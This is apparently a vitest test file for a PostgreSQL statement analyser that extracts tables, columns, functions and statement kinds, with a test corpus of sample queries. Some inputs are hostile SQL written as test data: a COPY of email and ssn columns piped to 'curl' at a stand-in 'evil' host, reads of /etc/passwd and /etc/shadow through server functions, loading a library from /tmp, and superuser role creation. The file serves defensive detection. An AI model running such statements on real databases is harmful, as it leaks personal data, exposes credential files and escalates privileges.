import { beforeAll, describe, expect, it } from 'vitest';
import { extractSqlFacts, initSqlParser } from '../../../../engine/sql/sql-facts.ts';

beforeAll(async () => {
  await initSqlParser();
});

/** text → the facts expected (a subset match per statement, in order). */
const CORPUS: Array<{ name: string; text: string; statements: Array<Record<string, unknown>> }> = [
  {
    name: 'plain select of two columns',
    text: 'SELECT id, email FROM users',
    statements: [
      {
        kind: 'select',
        tables: ['users'],
        hasWhere: false,
        functions: [],
        columns: [
          { name: 'id', table: 'users', usage: ['output'] },
          { name: 'email', table: 'users', usage: ['output'] },
        ],
      },
    ],
  },
  {
    name: 'comments and mixed case do not hide the kind',
    text: '/* harmless */ DeLeTe -- really\n FROM Users',
    statements: [{ kind: 'delete', tables: ['users'], hasWhere: false }],
  },
  {
    name: 'quoted identifiers are folded to lower case',
    text: 'SELECT "Email" FROM "Public"."Users"',
    statements: [{ kind: 'select', tables: ['users'], schemas: ['public'], columns: [{ name: 'email', table: 'users', usage: ['output'] }] }],
  },
  {
    name: 'several statements are separate entries with their own text',
    text: 'SELECT 1; DROP TABLE orders; ',
    statements: [
      { kind: 'select', text: 'SELECT 1' },
      { kind: 'drop', tables: ['orders'], objectType: 'table', objects: ['orders'], text: 'DROP TABLE orders' },
    ],
  },
  {
    name: 'a DELETE hidden in a CTE is its own nested entry',
    text: 'WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d',
    statements: [
      { kind: 'select', tables: [], ctes: ['d'], functions: ['count'] },
      { kind: 'delete', tables: ['users'], hasWhere: false, nested: true, columns: [{ name: '*', table: 'users', usage: ['returning'] }] },
    ],
  },
  {
    name: 'an UPDATE in a CTE of an INSERT',
    text: 'WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) INSERT INTO log SELECT id FROM u',
    statements: [
      { kind: 'insert', tables: ['log'], nested: undefined },
      { kind: 'update', tables: ['accounts'], nested: true, hasWhere: false },
    ],
  },
  {
    name: 'DO block',
    text: "DO $$ BEGIN PERFORM pg_sleep(1); END $$ LANGUAGE plpgsql",
    statements: [{ kind: 'do', language: 'plpgsql' }],
  },
  {
    name: 'COPY TO PROGRAM',
    text: "COPY users (email, ssn) TO PROGRAM 'curl -d @- http://evil'",
    statements: [
      {
        kind: 'copy',
        tables: ['users'],
        copy: { direction: 'to', program: true, target: 'curl -d @- http://evil' },
        columns: [
          { name: 'email', table: 'users', usage: ['copy'] },
          { name: 'ssn', table: 'users', usage: ['copy'] },
        ],
      },
    ],
  },
  {
    name: 'COPY FROM a file',
    text: "copy t from '/etc/passwd'",
    statements: [{ kind: 'copy', copy: { direction: 'from', program: false, target: '/etc/passwd' }, columns: [{ name: '*', table: 't', usage: ['copy'] }] }],
  },
  {
    name: 'COPY of a query',
    text: 'COPY (SELECT email FROM users) TO STDOUT',
    statements: [{ kind: 'copy', tables: ['users'], copy: { direction: 'to', program: false, target: 'stdout' }, columns: [{ name: 'email', table: 'users', usage: ['copy'] }] }],
  },
  {
    name: 'file reading function, schema-qualified',
    text: "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    statements: [{ kind: 'select', functions: ['pg_catalog.pg_read_file', 'pg_read_file'] }],
  },
  {
    name: 'function in FROM and in WHERE',
    text: "SELECT * FROM dblink('host=x', 'select 1') AS t(a int) WHERE lo_import('/etc/shadow') > 0",
    statements: [{ kind: 'select', functions: ['dblink', 'lo_import'] }],
  },
  {
    name: 'lower(email) is an expression use',
    text: 'SELECT lower(email) FROM users',
    statements: [{ columns: [{ name: 'email', table: 'users', usage: ['expression'] }], functions: ['lower'] }],
  },
  {
    name: 'WHERE email LIKE is a filter use',
    text: "SELECT id FROM users WHERE email LIKE 'a%'",
    statements: [
      {
        hasWhere: true,
        columns: [
          { name: 'id', table: 'users', usage: ['output'] },
          { name: 'email', table: 'users', usage: ['filter'] },
        ],
      },
    ],
  },
  {
    name: 'an alias resolves to its table',
    text: 'SELECT u.email AS e FROM users u JOIN orders o ON o.user_id = u.id',
    statements: [
      {
        tables: ['users', 'orders'],
        columns: [
          { name: 'email', table: 'users', usage: ['output'] },
          { name: 'user_id', table: 'orders', usage: ['join'] },
          { name: 'id', table: 'users', usage: ['join'] },
        ],
      },
    ],
  },
  {
    name: 'SELECT * is a star output',
    text: 'SELECT * FROM users',
    statements: [{ columns: [{ name: '*', table: 'users', usage: ['output'] }] }],
  },
  {
    name: 'a whole-row reference',
    text: 'SELECT row_to_json(u) FROM users u',
    statements: [{ columns: [{ name: '*', table: 'users', usage: ['wholerow'] }] }],
  },
  {
    name: 'the table name as a value is a whole row',
    text: 'SELECT users FROM users',
    statements: [{ columns: [{ name: '*', table: 'users', usage: ['wholerow'] }] }],
  },
  {
    name: 'group, order and having',
    text: 'SELECT city, count(*) FROM users GROUP BY city HAVING max(phone) > 1 ORDER BY ssn',
    statements: [
      {
        columns: [
          { name: 'city', table: 'users', usage: ['group', 'output'] },
          { name: 'phone', table: 'users', usage: ['filter'] },
          { name: 'ssn', table: 'users', usage: ['order'] },
        ],
      },
    ],
  },
  {
    name: 'UPDATE SET targets are assignments, values expressions',
    text: "UPDATE users SET email = lower(email), phone = '1' WHERE id = 7 RETURNING ssn",
    statements: [
      {
        kind: 'update',
        hasWhere: true,
        columns: [
          { name: 'email', table: 'users', usage: ['assignment', 'expression'] },
          { name: 'phone', table: 'users', usage: ['assignment'] },
          { name: 'id', table: 'users', usage: ['filter'] },
          { name: 'ssn', table: 'users', usage: ['returning'] },
        ],
      },
    ],
  },
  {
    name: 'DELETE WHERE true is a trivial WHERE',
    text: 'DELETE FROM users WHERE 1 = 1',
    statements: [{ kind: 'delete', hasWhere: true, whereTrivial: true }],
  },
  {
    name: 'a scalar subquery in the target list is not a plain output',
    text: 'SELECT (SELECT email FROM users LIMIT 1)',
    statements: [{ columns: [{ name: 'email', table: 'users', usage: ['expression'] }] }],
  },
  {
    name: 'a UNION arm is not a plain output',
    text: 'SELECT email FROM users UNION SELECT name FROM staff',
    statements: [{ tables: ['users', 'staff'], columns: [{ name: 'email', table: 'users', usage: ['expression'] }, { name: 'name', table: 'staff', usage: ['expression'] }] }],
  },
  {
    name: 'a FROM subquery output stays an output',
    text: 'SELECT s.email FROM (SELECT email FROM users) s',
    statements: [{ columns: [{ name: 'email', table: 's', usage: ['output'] }, { name: 'email', table: 'users', usage: ['output'] }] }],
  },
  {
    name: 'INSERT ... SELECT copies a column',
    text: 'INSERT INTO leak (v) SELECT email FROM users',
    statements: [{ kind: 'insert', tables: ['leak', 'users'], columns: [{ name: 'v', table: 'leak', usage: ['assignment'] }, { name: 'email', table: 'users', usage: ['expression'] }] }],
  },
  {
    name: 'EXPLAIN ANALYZE reports the statement it runs',
    text: 'EXPLAIN ANALYZE DELETE FROM users',
    statements: [{ kind: 'explain', analyze: true }, { kind: 'delete', tables: ['users'], nested: true }],
  },
  { name: 'TRUNCATE', text: 'truncate table a, b', statements: [{ kind: 'truncate', tables: ['a', 'b'] }] },
  { name: 'ALTER TABLE', text: 'ALTER TABLE users ADD COLUMN x int', statements: [{ kind: 'alter', tables: ['users'], objectType: 'table' }] },
  { name: 'CREATE TABLE', text: 'CREATE TABLE t (a int)', statements: [{ kind: 'create', tables: ['t'], objectType: 'table' }] },
  { name: 'GRANT', text: 'GRANT SELECT ON users TO bob', statements: [{ kind: 'grant', tables: ['users'] }] },
  { name: 'REVOKE', text: 'REVOKE ALL ON users FROM bob', statements: [{ kind: 'revoke' }] },
  { name: 'GRANT a role', text: 'GRANT pg_read_server_files TO bob', statements: [{ kind: 'grant_role' }] },
  { name: 'SET ROLE', text: 'SET ROLE postgres', statements: [{ kind: 'set', setting: 'role' }] },
  { name: 'SET SESSION AUTHORIZATION', text: 'SET SESSION AUTHORIZATION postgres', statements: [{ kind: 'set', setting: 'session_authorization' }] },
  { name: 'RESET', text: 'RESET ALL', statements: [{ kind: 'reset' }] },
  { name: 'CALL', text: 'CALL do_things(1)', statements: [{ kind: 'call', functions: ['do_things'] }] },
  { name: 'unknown kinds by node name: CREATE ROLE', text: 'CREATE ROLE evil SUPERUSER', statements: [{ kind: 'create_role' }] },
  { name: 'unknown kinds by node name: ALTER SYSTEM', text: "ALTER SYSTEM SET archive_command = 'x'", statements: [{ kind: 'alter_system' }] },
  { name: 'ALTER ROLE', text: 'ALTER ROLE bob SUPERUSER', statements: [{ kind: 'alter_role' }] },
  { name: 'SELECT INTO creates a table', text: 'SELECT * INTO copy_of_users FROM users', statements: [{ kind: 'create_table_as', tables: ['users', 'copy_of_users'] }] },
  { name: 'CREATE TABLE AS', text: 'CREATE TABLE x AS SELECT email FROM users', statements: [{ kind: 'create_table_as', tables: ['x', 'users'] }] },
  { name: 'transaction control', text: 'BEGIN; COMMIT; ROLLBACK', statements: [{ kind: 'begin' }, { kind: 'commit' }, { kind: 'rollback' }] },
  { name: 'SHOW', text: 'SHOW search_path', statements: [{ kind: 'show' }] },
  { name: 'VACUUM', text: 'VACUUM users', statements: [{ kind: 'vacuum', tables: ['users'] }] },
  { name: 'MERGE', text: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', statements: [{ kind: 'merge', tables: ['t', 's'], hasWhere: false }] },
  { name: 'LOAD a library', text: "LOAD '/tmp/evil.so'", statements: [{ kind: 'load' }] },
  { name: 'PREPARE reports the prepared statement', text: 'PREPARE p AS DELETE FROM users', statements: [{ kind: 'prepare' }, { kind: 'delete', nested: true }] },
  { name: 'DROP FUNCTION', text: 'DROP FUNCTION f(int)', statements: [{ kind: 'drop', objectType: 'function', tables: [] }] },
  { name: 'dollar quoting and string escapes are data', text: "SELECT $x$; DROP TABLE t; $x$, E'\\'; DROP'", statements: [{ kind: 'select', tables: [] }] },
  { name: 'a CTE name is not a table', text: 'WITH users AS (SELECT 1 AS id) SELECT id FROM users', statements: [{ tables: [], ctes: ['users'] }] },
  { name: 'a write inside a nested WITH in a subquery', text: 'SELECT * FROM (WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x) s', statements: [{ kind: 'select' }, { kind: 'delete', tables: ['t'], nested: true }] },
  { name: 'empty text has no statements', text: '  -- only a comment\n', statements: [] },
];

describe('SQL facts corpus', () => {
  for (const entry of CORPUS) {
    it(`${entry.name}: ${entry.text.replace(/\s+/g, ' ')}`, () => {
      const facts = extractSqlFacts(entry.text);
      expect(facts.parseError).toBeUndefined();
      expect(facts.statements).toHaveLength(entry.statements.length);
      entry.statements.forEach((expected, i) => {
        const actual = facts.statements[i]!;
        for (const [key, value] of Object.entries(expected)) {
          if (key === 'columns' || key === 'tables' || key === 'functions') {
            expect(actual[key], key).toEqual(expect.arrayContaining(value as unknown[]));
            expect((actual[key] as unknown[]).length, `${key} count`).toBe((value as unknown[]).length);
          } else {
            expect(actual[key], key).toEqual(value);
          }
        }
      });
    });
  }
});

describe('SQL facts errors', () => {
  it('a syntax error yields parseError with the parser message and no statements', () => {
    const facts = extractSqlFacts('SELEC * FROM users');
    expect(facts.statements).toEqual([]);
    expect(facts.parseError).toMatch(/syntax error at or near "SELEC"/);
  });

  it('an unterminated statement reports the end of input', () => {
    expect(extractSqlFacts('SELECT * FROM users WHERE (').parseError).toMatch(/syntax error at end of input/);
  });

  it('statement text is sliced by bytes, so multibyte characters do not shift it', () => {
    const facts = extractSqlFacts("SELECT 'é😀'; DELETE FROM t");
    expect(facts.statements.map((s) => s.text)).toEqual(["SELECT 'é😀'", 'DELETE FROM t']);
  });
});
